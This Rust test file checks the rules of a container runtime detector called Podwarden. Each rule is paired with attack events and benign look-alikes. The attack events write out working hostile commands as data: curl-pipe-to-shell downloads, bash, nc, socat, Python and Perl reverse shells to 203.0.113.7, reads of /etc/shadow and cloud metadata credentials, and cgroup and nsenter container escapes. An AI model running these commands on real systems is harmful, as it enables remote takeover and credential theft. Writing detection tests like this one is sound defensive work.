//! Podwarden's own rules: every rule fires on its attack and stays quiet on a benign
//! look-alike. One table row per rule: id, firing events, benign events, extra rule text.

use crate::support::*;
use podwarden_api::event::{Event, FdKind, L4Protocol};
use podwarden_rules::{AlertType, CompileOptions, RuleSet, RuleSource, RuleStatus};
use std::collections::BTreeSet;

struct Case {
    id: &'static str,
    fires: Vec<Event>,
    benign: Vec<Event>,
    /// Extra rule text loaded after the built-in files (e.g. a list append).
    extra: &'static str,
}

fn case(id: &'static str, fires: Vec<Ev>, benign: Vec<Ev>) -> Case {
    Case {
        id,
        fires: fires.into_iter().map(Ev::build).collect(),
        benign: benign.into_iter().map(Ev::build).collect(),
        extra: "",
    }
}

fn php_fpm_child(exe: &str, argv: &[&str]) -> Ev {
    exec(exe, argv)
        .parent("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"])
        .parent(
            "/usr/sbin/php-fpm8.2",
            &["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
        )
        .container("registry.example/shop/web:1.4")
}

fn cases() -> Vec<Case> {
    let blocked = "- list: pw_blocked_addresses\n  items: [203.0.113.66, 198.51.100.0/24]\n  override:\n    items: append\n";
    vec![
        case(
            "PW-PROC-001",
            vec![
                exec("/tmp/.x/xmrig", &["xmrig", "-o", "pool.example:4444"]),
                exec("/var/tmp/kdevtmpfsi", &["kdevtmpfsi"]),
            ],
            vec![
                exec("/usr/bin/grep", &["grep", "xmrig", "/var/log/app.log"]),
                exec("/usr/games/minetest-server", &["minetest-server"]),
            ],
        ),
        case(
            "PW-PROC-002",
            vec![exec(
                "/opt/app/worker",
                &[
                    "worker",
                    "-o",
                    "stratum+tcp://pool.example:3333",
                    "-u",
                    "wallet",
                ],
            )],
            vec![exec(
                "/usr/bin/curl",
                &["curl", "https://docs.example/stratum-protocol"],
            )],
        ),
        case(
            "PW-PROC-003",
            vec![
                exec(
                    "/bin/sh",
                    &["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"],
                ),
                exec(
                    "/bin/bash",
                    &["bash", "-c", "wget -q -O- http://203.0.113.5/y | bash -s"],
                ),
                exec(
                    "/bin/sh",
                    &[
                        "sh",
                        "-c",
                        "wget http://203.0.113.5/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
                    ],
                ),
            ],
            vec![
                exec(
                    "/bin/sh",
                    &[
                        "sh",
                        "-c",
                        "curl -fsS http://localhost:8080/healthz | grep ok",
                    ],
                ),
                exec(
                    "/bin/sh",
                    &[
                        "sh",
                        "-c",
                        "curl -o /tmp/data.json http://api.internal/export",
                    ],
                ),
            ],
        ),
        case(
            "PW-PROC-004",
            vec![
                exec("/tmp/kworker", &["/tmp/kworker"]),
                exec("/dev/shm/.x/run", &["./run"]),
            ],
            vec![
                exec("/usr/bin/python3", &["python3", "/tmp/setup.py"]),
                exec("/tmp/go-build2231/b001/exe/main", &["main"]),
                exec("/usr/local/bin/tmpreaper", &["tmpreaper", "24h", "/tmp"]),
            ],
        ),
        case(
            "PW-PROC-005",
            vec![exec("/memfd:payload", &["[kworker/0:1]"]).name("3").memfd()],
            vec![
                exec("/memfd:runc_cloned:/proc/self/exe", &["runc", "init"])
                    .name("runc")
                    .memfd(),
            ],
        ),
        case(
            "PW-PROC-006",
            vec![exec("/usr/local/bin/agentx", &["agentx", "--daemon"]).deleted()],
            vec![
                exec("/memfd:runc_cloned:/proc/self/exe", &["runc", "init"])
                    .name("runc")
                    .memfd(),
                exec("/usr/local/bin/agentx", &["agentx", "--daemon"]),
            ],
        ),
        case(
            "PW-PROC-007",
            vec![
                exec("/bin/sh", &["/bin/sh", "/tmp/linpeas.sh"]).name("linpeas.sh"),
                exec("/opt/pspy64", &["pspy64"]),
                exec("/tmp/PwnKit", &["./PwnKit"]),
            ],
            vec![
                exec("/usr/bin/sudo", &["sudo", "-l"]),
                exec("/usr/bin/id", &["id", "-u"]),
            ],
        ),
        case(
            "PW-PROC-008",
            vec![
                exec("/bin/chmod", &["chmod", "u+s", "/tmp/bash"]),
                exec("/bin/chmod", &["chmod", "4755", "/tmp/sh"]),
                exec(
                    "/usr/sbin/setcap",
                    &["setcap", "cap_setuid+ep", "/usr/bin/python3"],
                ),
            ],
            vec![
                exec("/bin/chmod", &["chmod", "755", "/app/run.sh"]),
                exec("/bin/chmod", &["chmod", "+x", "/app/run.sh"]),
                exec("/bin/chmod", &["chmod", "1777", "/tmp/shared"]),
                exec(
                    "/usr/sbin/setcap",
                    &["setcap", "cap_net_bind_service=+ep", "/usr/bin/node"],
                ),
            ],
        ),
        case(
            "PW-PROC-009",
            vec![
                exec("/bin/cat", &["cat", "/etc/shadow"]),
                exec("/bin/cp", &["cp", "/etc/gshadow", "/tmp/g"]),
            ],
            vec![
                exec(
                    "/usr/sbin/pwck",
                    &["pwck", "-r", "/etc/passwd", "/etc/shadow"],
                ),
                exec("/bin/cat", &["cat", "/etc/passwd"]),
            ],
        ),
        case(
            "PW-PROC-010",
            vec![exec(
                "/bin/cat",
                &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            )],
            vec![exec(
                "/bin/ls",
                &["ls", "-l", "/var/run/secrets/kubernetes.io/serviceaccount/"],
            )],
        ),
        case(
            "PW-PROC-011",
            vec![
                exec(
                    "/usr/bin/curl",
                    &[
                        "curl",
                        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                    ],
                ),
                exec(
                    "/usr/bin/wget",
                    &[
                        "wget",
                        "-qO-",
                        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
                    ],
                ),
            ],
            vec![
                exec(
                    "/usr/sbin/aliyun-service",
                    &["aliyun-service", "--endpoint", "http://100.100.100.200/"],
                ),
                exec("/usr/bin/curl", &["curl", "http://10.0.0.1/healthz"]),
            ],
        ),
        case(
            "PW-ESC-001",
            vec![
                exec(
                    "/bin/sh",
                    &["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"],
                ),
                file_modified("/bin/sh", &["sh"], "/sys/fs/cgroup/rdma/x/release_agent")
                    .privileged()
                    .caps(1 << 21),
            ],
            vec![
                exec("/bin/cat", &["cat", "/sys/fs/cgroup/memory.max"]),
                file_modified("/bin/sh", &["sh"], "/var/log/agent.log"),
            ],
        ),
        case(
            "PW-ESC-002",
            vec![
                exec("/bin/mount", &["mount", "/dev/sda1", "/mnt"]),
                exec(
                    "/bin/mount",
                    &["mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/tmp/cgrp"],
                ),
            ],
            vec![
                exec("/bin/mount", &["mount"]),
                exec(
                    "/bin/mount",
                    &["mount", "-t", "tmpfs", "tmpfs", "/mnt/cache"],
                ),
            ],
        ),
        case(
            "PW-ESC-003",
            vec![
                exec(
                    "/usr/bin/nsenter",
                    &[
                        "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh",
                    ],
                ),
                exec(
                    "/usr/bin/nsenter",
                    &["nsenter", "--target=1", "--mount", "sh"],
                ),
                exec("/usr/sbin/chroot", &["chroot", "/host", "bash"]),
            ],
            vec![
                exec(
                    "/usr/bin/nsenter",
                    &["nsenter", "-t", "12345", "-n", "ip", "a"],
                ),
                exec("/usr/sbin/chroot", &["chroot", "/srv/build-root", "make"]),
            ],
        ),
        case(
            "PW-PROC-012",
            vec![ptrace("/usr/sbin/sshd", &["sshd: root@pts/0"], "gdb")],
            vec![ptrace("/usr/bin/python3", &["python3", "app.py"], "py-spy")],
        ),
        case(
            "PW-NET-001",
            vec![
                exec("/bin/bash", &["bash", "-i"]).stdio_on_socket("203.0.113.7:4444"),
                stdio_socket(
                    "/usr/bin/python3",
                    &["python3", "-c", "..."],
                    0,
                    "203.0.113.7:4444",
                ),
            ],
            vec![
                exec("/bin/bash", &["bash", "-c", "make"]).stdio(FdKind::Pipe, "pipe:[1234]"),
                exec("/bin/bash", &["bash"]).stdio(FdKind::Unix, "socket:[555]"),
                stdio_socket(
                    "/usr/sbin/xinetd-svc",
                    &["xinetd-svc"],
                    0,
                    "203.0.113.7:4444",
                ),
            ],
        ),
        case(
            "PW-NET-002",
            vec![exec(
                "/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            )],
            vec![exec(
                "/bin/bash",
                &["bash", "-c", "</dev/tcp/127.0.0.1/8080"],
            )],
        ),
        case(
            "PW-NET-003",
            vec![
                exec("/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]),
                exec(
                    "/usr/bin/ncat",
                    &["ncat", "--sh-exec", "bash", "203.0.113.7", "4444"],
                ),
                exec(
                    "/usr/bin/socat",
                    &[
                        "socat",
                        "exec:'bash -li',pty,stderr,setsid",
                        "tcp:203.0.113.7:4444",
                    ],
                ),
            ],
            vec![
                exec("/bin/nc", &["nc", "-zv", "db", "5432"]),
                exec(
                    "/usr/bin/socat",
                    &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"],
                ),
            ],
        ),
        case(
            "PW-NET-004",
            vec![
                exec(
                    "/usr/bin/python3",
                    &[
                        "python3",
                        "-c",
                        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);p=subprocess.call([\"/bin/sh\",\"-i\"])",
                    ],
                ),
                exec(
                    "/usr/bin/perl",
                    &[
                        "perl",
                        "-e",
                        "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");",
                    ],
                ),
            ],
            vec![exec(
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket; print(socket.gethostname())",
                ],
            )],
        ),
        case(
            "PW-NET-005",
            vec![exec(
                "/bin/sh",
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
                ],
            )],
            vec![exec(
                "/bin/sh",
                &["sh", "-c", "mkfifo /tmp/logpipe && tail -f /tmp/logpipe"],
            )],
        ),
        case(
            "PW-NET-006",
            vec![
                connect("/tmp/xm", &["xm"], "198.51.100.20:3333"),
                connect("/tmp/xm", &["xm"], "198.51.100.20:14444"),
            ],
            vec![
                connect("/app/server", &["server"], "10.0.0.5:5555"),
                connect("/usr/bin/curl", &["curl"], "198.51.100.20:443"),
            ],
        ),
        case(
            "PW-NET-007",
            vec![
                connect(
                    "/usr/bin/python3",
                    &["python3", "steal.py"],
                    "169.254.169.254:80",
                ),
                connect("/usr/bin/curl", &["curl"], "100.100.100.200:80"),
            ],
            vec![
                connect(
                    "/usr/sbin/aliyun-service",
                    &["aliyun-service"],
                    "100.100.100.200:80",
                ),
                connect("/usr/bin/curl", &["curl"], "169.254.169.253:53").udp(),
            ],
        ),
        case(
            "PW-NET-008",
            vec![
                listen(
                    "/bin/nc",
                    &["nc", "-lvnp", "9001"],
                    "0.0.0.0:9001",
                    L4Protocol::Tcp,
                ),
                listen(
                    "/usr/bin/python3",
                    &["python3", "-m", "http.server", "8000"],
                    "0.0.0.0:8000",
                    L4Protocol::Tcp,
                ),
                listen("/bin/bash", &["bash"], "0.0.0.0:53", L4Protocol::Udp),
            ],
            vec![
                listen(
                    "/usr/sbin/nginx",
                    &["nginx: worker process"],
                    "0.0.0.0:80",
                    L4Protocol::Tcp,
                ),
                listen(
                    "/usr/bin/python3",
                    &["python3", "app.py"],
                    "0.0.0.0:5000",
                    L4Protocol::Tcp,
                ),
            ],
        ),
        case(
            "PW-NET-009",
            vec![listen(
                "/opt/app/agent",
                &["agent"],
                "0.0.0.0:31337",
                L4Protocol::Tcp,
            )],
            vec![listen(
                "/usr/sbin/nginx",
                &["nginx"],
                "0.0.0.0:8080",
                L4Protocol::Tcp,
            )],
        ),
        case(
            "PW-NET-010",
            vec![
                connect("/bin/bash", &["bash", "-i"], "203.0.113.7:4444"),
                connect(
                    "/usr/bin/gawk",
                    &["gawk", "BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"}"],
                    "203.0.113.7:4444",
                ),
            ],
            vec![
                connect(
                    "/bin/bash",
                    &["bash", "-c", "</dev/tcp/127.0.0.1/8080"],
                    "127.0.0.1:8080",
                ),
                connect(
                    "/usr/bin/curl",
                    &["curl", "https://api.example/"],
                    "203.0.113.10:443",
                ),
            ],
        ),
        Case {
            extra: blocked,
            ..case(
                "PW-NET-011",
                vec![
                    connect("/usr/bin/curl", &["curl"], "203.0.113.66:443"),
                    accept(
                        "/usr/sbin/nginx",
                        &["nginx"],
                        "10.1.2.3:443",
                        "198.51.100.77:50000",
                    ),
                ],
                vec![
                    connect("/usr/bin/curl", &["curl"], "203.0.113.67:443"),
                    accept(
                        "/usr/sbin/nginx",
                        &["nginx"],
                        "10.1.2.3:443",
                        "198.51.101.77:50000",
                    ),
                ],
            )
        },
        case(
            "PW-WEB-001",
            vec![
                php_fpm_child("/bin/sh", &["sh", "-c", "id"]),
                exec("/bin/bash", &["bash", "-c", "whoami"])
                    .parent("/usr/lib/jvm/bin/java", &["java", "-jar", "/app/app.jar"]),
                exec("/bin/sh", &["sh", "-c", "ls"])
                    .parent("/usr/local/bin/node", &["node", "server.js"]),
                exec("/bin/sh", &["sh"]).parent(
                    "/usr/bin/python3",
                    &["python3", "/usr/local/bin/gunicorn", "app:app"],
                ),
                exec("/bin/sh", &["sh", "-c", "uname -a"])
                    .parent("/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]),
            ],
            vec![
                exec("/bin/sh", &["sh", "-c", "webpack"]).parent(
                    "/usr/local/bin/node",
                    &["node", "/usr/local/bin/npm", "run", "build"],
                ),
                exec("/bin/sh", &["sh", "-c", "javac"]).parent(
                    "/usr/lib/jvm/bin/java",
                    &[
                        "java",
                        "-classpath",
                        "/usr/share/maven/boot",
                        "org.codehaus.plexus.classworlds.launcher.Launcher",
                    ],
                ),
                exec("/bin/sh", &["sh", "-c", "make"])
                    .parent("/usr/bin/python3", &["python3", "build.py"]),
                php_fpm_child("/usr/bin/convert", &["convert", "a.png", "a.jpg"]),
            ],
        ),
        case(
            "PW-WEB-002",
            vec![
                exec("/usr/bin/id", &["id"])
                    .parent("/bin/sh", &["sh", "-c", "id"])
                    .parent("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]),
                exec("/usr/bin/whoami", &["whoami"])
                    .parent("/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]),
            ],
            vec![
                exec("/usr/bin/id", &["id"])
                    .parent("/bin/bash", &["bash"])
                    .parent("/usr/sbin/sshd", &["sshd: admin"]),
                exec("/bin/ps", &["ps", "aux"])
                    .parent("/usr/bin/tini", &["tini", "--", "entrypoint.sh"]),
            ],
        ),
        case(
            "PW-WEB-003",
            vec![
                file_created(
                    "/usr/sbin/php-fpm8.2",
                    &["php-fpm: pool www"],
                    "/var/www/html/uploads/shell.php",
                ),
                file_created(
                    "/usr/lib/jvm/bin/java",
                    &["java", "-jar", "app.jar"],
                    "/usr/local/tomcat/webapps/ROOT/cmd.JSP",
                ),
                file_modified("/usr/sbin/apache2", &["apache2"], "/var/www/html/x.phtml"),
            ],
            vec![
                file_created(
                    "/usr/sbin/php-fpm8.2",
                    &["php-fpm: pool www"],
                    "/var/www/html/uploads/photo.jpg",
                ),
                file_created(
                    "/usr/sbin/php-fpm8.2",
                    &["php-fpm: pool www"],
                    "/var/www/var/cache/prod/Container.php",
                ),
                file_created(
                    "/usr/bin/vim.basic",
                    &["vim", "index.php"],
                    "/var/www/html/index.php",
                ),
            ],
        ),
    ]
}

fn ids(set: &RuleSet, event: &Event) -> Vec<String> {
    set.matches(event).into_iter().map(|a| a.id).collect()
}

#[test]
fn builtin_rules_compile_without_diagnostics() {
    let (set, diagnostics) =
        RuleSet::compile(&RuleSet::builtin_sources(), &CompileOptions::default());
    let shown: Vec<String> = diagnostics.iter().map(ToString::to_string).collect();
    assert!(
        shown.is_empty(),
        "diagnostics in the built-in rules:\n{}",
        shown.join("\n")
    );
    let summary = set.summary();
    assert_eq!(summary.total, summary.enabled, "{summary:?}");
    for rule in set.rules() {
        assert!(
            rule.id.starts_with("PW-"),
            "rule `{}` lacks a PW- id",
            rule.name
        );
        assert!(
            rule.advice.as_deref().is_some_and(|a| !a.is_empty()),
            "rule `{}` lacks advice",
            rule.name
        );
        assert!(
            !rule.desc.is_empty(),
            "rule `{}` lacks a description",
            rule.name
        );
    }
    let types: BTreeSet<&str> = set.rules().iter().map(|r| r.alert_type.as_str()).collect();
    assert_eq!(types.len(), 3, "all three alert types are covered");
}

#[test]
fn every_rule_fires_on_its_attack_and_not_on_its_look_alike() {
    let table = cases();
    let mut failures = Vec::new();
    for case in &table {
        let mut sources = RuleSet::builtin_sources();
        if !case.extra.is_empty() {
            sources.push(RuleSource::new("extra.yaml", case.extra));
        }
        let (set, diagnostics) = RuleSet::compile(&sources, &CompileOptions::default());
        assert!(diagnostics.is_empty(), "{}: {diagnostics:?}", case.id);
        assert!(
            !case.fires.is_empty() && !case.benign.is_empty(),
            "{} needs both kinds of event",
            case.id
        );
        for (i, event) in case.fires.iter().enumerate() {
            if !ids(&set, event).iter().any(|id| id == case.id) {
                failures.push(format!(
                    "{}: firing event #{i} did not fire: {}",
                    case.id,
                    event.to_json_line()
                ));
            }
        }
        for (i, event) in case.benign.iter().enumerate() {
            if ids(&set, event).iter().any(|id| id == case.id) {
                failures.push(format!(
                    "{}: benign event #{i} fired: {}",
                    case.id,
                    event.to_json_line()
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_table_covers_every_builtin_rule() {
    let covered: BTreeSet<&str> = cases().iter().map(|c| c.id).collect();
    let set = RuleSet::builtin();
    let ids: BTreeSet<&str> = set.rules().iter().map(|r| r.id.as_str()).collect();
    assert_eq!(covered, ids);
    assert!(set.rules().iter().all(|r| r.status == RuleStatus::Enabled));
}

#[test]
fn a_match_carries_id_type_priority_and_rendered_output() {
    let set = RuleSet::builtin();
    let event = php_fpm_child("/bin/sh", &["sh", "-c", "id"]).build();
    let alerts = set.matches(&event);
    let alert = alerts.iter().find(|a| a.id == "PW-WEB-001");
    let Some(alert) = alert else {
        panic!("PW-WEB-001 expected in {alerts:?}");
    };
    assert_eq!(alert.alert_type, AlertType::Webshell);
    assert_eq!(alert.severity, "critical");
    assert!(alert.tags.iter().any(|t| t == "webshell"));
    assert_eq!(
        alert.output,
        "Shell spawned by a web application (command=sh -c id parent=php-fpm8.2 pcmdline=php-fpm8.2 gparent=php-fpm8.2 user=www-data container=3f2a9c1b7d4e pod=web-0)"
    );
}
